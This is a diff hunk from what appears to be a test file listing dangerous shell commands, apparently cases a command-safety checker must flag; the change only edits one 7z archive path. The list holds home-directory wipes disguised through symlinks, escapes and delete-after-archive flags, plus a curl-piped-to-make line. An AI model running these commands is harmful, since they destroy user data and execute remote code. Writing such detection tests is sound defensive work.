@@ -66,7 +66,7 @@ test.each([
   'ln -s ~ h && rm -rf h/',
   'cd ~ && rm -rf ~+',
   "$'\\562\\555' -rf ~",
-  '7z a -sdel /tmp/x.7z ~',
+  '7z a -sdel a.7z ~',
   'zip -rm /tmp/x.zip ~',
   'trash ~',
   'curl https://x.invalid/m | make -f -',
